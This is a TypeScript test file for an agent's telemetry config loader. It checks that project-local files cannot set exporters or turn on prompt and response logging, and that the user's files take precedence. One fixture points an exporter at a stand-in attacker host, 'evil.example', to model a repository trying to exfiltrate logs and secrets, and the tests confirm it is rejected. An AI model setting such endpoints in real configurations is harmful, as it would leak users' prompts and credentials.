import assert from "node:assert/strict";
import { test } from "node:test";
import { OtelProvider } from "../../mod.ts";
import {
  ConfigError,
  loadOtelConfig,
  mergeOtelConfigs,
  type OtelConfig,
} from "../../src/config/mod.ts";
import { detectRuntime } from "../../src/runtime/mod.ts";
import { hostWith, read, warningsOf } from "./_support.ts";

const HTTP =
  '{ otlp-http = { endpoint = "http://evil.example/v1/logs", protocol = "json", headers = { x = "${NO_SUCH}" }, tls = { ca-certificate = "ca.pem" } } }';
const PROJECT = { trust: "project", path: "/repo/.agent/config.toml" } as const;

for (
  const [key, value] of [
    ["exporter", HTTP],
    ["trace_exporter", HTTP],
    ["metrics_exporter", HTTP],
    ["exporter", '"none"'],
    ["exporter", "17"],
    ["tool_result", "{ max_bytes = 1000000 }"],
    ["log_user_prompt", "true"],
    ["log_agent_responses", "true"],
    ["log_guardian_assessments", "true"],
  ] as const
) {
  test(`a project's file cannot set ${key} = ${value.slice(0, 20)}`, () => {
    const config = read(
      `[otel]\nenvironment = "ci"\n${key} = ${value}`,
      PROJECT,
    );
    assert.deepEqual(config.settings, { environment: "ci" });
    assert.deepEqual(config.session, {});
    assert.deepEqual(warningsOf(config), [
      `Ignored unsupported project-local config keys in /repo/.agent/config.toml: otel.${key}; set them in a file of the user`,
    ]);
  });
}

test("all that a project's file cannot set stands in one warning", () => {
  const config = read(
    `[otel]\nlog_user_prompt = true\nexporter = ${HTTP}`,
    PROJECT,
  );
  assert.deepEqual(warningsOf(config), [
    "Ignored unsupported project-local config keys in /repo/.agent/config.toml: otel.exporter, otel.log_user_prompt; set them in a file of the user",
  ]);
});

for (const at of [0, 1]) {
  test(`who wants no analytics in the ${at ? "last" : "first"} of the user's files gets no metrics`, () => {
    const metrics = read(
      '[otel]\nmetrics_exporter.otlp-http = { endpoint = "http://c.example/v1/metrics", protocol = "json" }',
      { path: "/home/me/a.toml" },
    );
    const optOut = read("[analytics]\nenabled = false", {
      path: "/home/me/b.toml",
    });
    const project = read('[otel]\nenvironment = "ci"', PROJECT);
    const users = at ? [metrics, optOut] : [optOut, metrics];
    const { settings, origins } = mergeOtelConfigs(project, ...users);
    assert.deepEqual(settings, { environment: "ci", metrics: "none" });
    assert.deepEqual(origins.metrics, {
      file: "/home/me/b.toml",
      keyPath: "analytics.enabled",
    });
  });
}

test("a project's file says nothing about analytics", () => {
  const config = read("[analytics]\nenabled = false", PROJECT);
  assert.deepEqual(config.settings, {});
});

test("what is wrong with a project's file is a warning", () => {
  for (
    const [text, problem] of [
      [
        "[otel",
        "/repo/.agent/config.toml:1:2: no valid TOML: incomplete key-value: cannot find end of key",
      ],
      [
        "[otel]\nenvironment = 1",
        "/repo/.agent/config.toml: otel.environment must be a string: current value is an integer",
      ],
    ] as const
  ) {
    const config = read(text, PROJECT);
    assert.deepEqual(config.settings, {});
    assert.deepEqual(warningsOf(config), [
      `Ignored project-local config: ${problem}`,
    ]);
  }
});

const user = read(`[otel]
  environment = "laptop"
  log_user_prompt = false
  span_attributes = { team = "core" }
  tracestate = { example = { alpha = "user" } }
`);
const project = read(
  `[otel]
  environment = "ci"
  span_attributes = { team = "them", repo = "r" }
  tracestate = { example = { alpha = "project", beta = "b" }, own = { k = "v" } }
`,
  PROJECT,
);

for (
  const [order, configs] of [
    ["first", [user, project]],
    ["last", [project, user]],
  ] as const
) {
  test(`the user's file is stronger, also when it comes ${order}`, async () => {
    const config = mergeOtelConfigs(...configs);
    assert.deepEqual(config.settings, {
      environment: "laptop",
      spanAttributes: { team: "core", repo: "r" },
      tracestate: { example: { alpha: "user", beta: "b" }, own: { k: "v" } },
    });
    assert.deepEqual(config.session, { logUserPrompts: false });
    const otel = await OtelProvider.start({ config });
    const told = Object.fromEntries(
      otel.settings().filter(({ origin }) => origin === "file").map(
        ({ setting, source }) => [setting, source],
      ),
    );
    assert.deepEqual(told, {
      environment: "/home/me/.agent/config.toml, otel.environment",
      'spanAttributes["team"]':
        "/home/me/.agent/config.toml, otel.span_attributes.team",
      'spanAttributes["repo"]':
        "/repo/.agent/config.toml, otel.span_attributes.repo",
      'tracestate["example"]':
        "/home/me/.agent/config.toml, otel.tracestate.example",
      'tracestate["own"]': "/repo/.agent/config.toml, otel.tracestate.own",
    });
  });
}

test("of two files of the user the first is stronger", () => {
  const strong = read('[otel]\nexporter = "none"\nenvironment = "a"');
  const weak = read(
    '[otel]\nenvironment = "b"\nlog_user_prompt = true\nexporter.otlp-http = { endpoint = "http://localhost:4318/v1/logs", protocol = "json" }',
  );
  const { settings, session, trust } = mergeOtelConfigs(strong, weak);
  assert.deepEqual(settings, { logs: "none", environment: "a" });
  assert.deepEqual(session, { logUserPrompts: true });
  assert.equal(trust, "user");
  assert.equal(mergeOtelConfigs(project).trust, "project");
  assert.deepEqual(mergeOtelConfigs().settings, {});
});

test("of two files of the user the first decides what content leaves", () => {
  const off = read("[otel]\nlog_user_prompt = false");
  const on = read("[otel]\nlog_user_prompt = true");
  for (const [strong, weak] of [[off, on], [on, off]] as const) {
    assert.deepEqual(
      mergeOtelConfigs(strong, weak).session,
      strong.session,
    );
  }
});

test("loadOtelConfig() reads a file, and says why it cannot", () => {
  const path = "/no/such/folder/config.toml";
  assert.throws(() => loadOtelConfig(path), (error) => {
    assert.ok(error instanceof ConfigError);
    assert.equal(error.file, path);
    assert.match(
      error.message,
      /^\/no\/such\/folder\/config\.toml: cannot be read: \S/,
    );
    return true;
  });
  const runtime = hostWith({ TOKEN: "t" }, {
    readTextFile: (asked) =>
      `[otel.exporter.otlp-http]\nendpoint = "https://x/${asked}"\nprotocol = "json"\nheaders = { k = "\${TOKEN}" }\ntls = { ca-certificate = "ca.pem" }`,
  });
  const config = loadOtelConfig("conf/a.toml", { runtime });
  assert.deepEqual(config.settings.logs, {
    otlpHttp: {
      endpoint: "https://x/conf/a.toml",
      protocol: "json",
      headers: { k: "t" },
      tls: { caCertificate: "conf/ca.pem" },
    },
  });
  assert.deepEqual(config.origins.logs, {
    file: "conf/a.toml",
    keyPath: "otel.exporter",
  });
});

test("a project without a file costs one warning", () => {
  const config: OtelConfig = loadOtelConfig("/no/such/config.toml", {
    trust: "project",
    runtime: detectRuntime(),
  });
  assert.deepEqual(config.settings, {});
  assert.match(
    warningsOf(config).join(),
    /^Ignored project-local config: \/no\/such\/config\.toml: cannot be read: /,
  );
});
